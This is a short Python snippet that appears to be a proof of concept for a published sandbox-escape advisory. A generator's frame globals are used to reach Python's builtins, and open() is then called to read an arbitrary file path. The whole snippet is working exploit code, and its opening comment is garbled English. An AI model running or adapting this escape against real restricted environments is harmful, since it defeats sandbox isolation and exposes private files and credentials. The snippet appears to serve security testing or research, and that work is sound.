# A generator has its frame, and that the globals.
# after: read
# source: CVE-2023-37271 (GHSA-wqc8-x2pr-7jqh)
def g():
    yield 1
def attack(path, **_):
    found = g().gi_frame.f_globals["__builtins__"]
    return {"text": found["open"](path).read()}
